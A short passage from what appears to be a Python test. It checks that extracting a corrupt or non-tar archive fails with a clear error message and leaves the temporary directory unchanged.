        f"Cannot extract {archive}: it is corrupt, truncated or not a tar archive (Invalid data stream). Nothing was "
        f"extracted. Delete {archive} and re-run the same command to download it again.")
    assert snapshot(tmp_path) == before
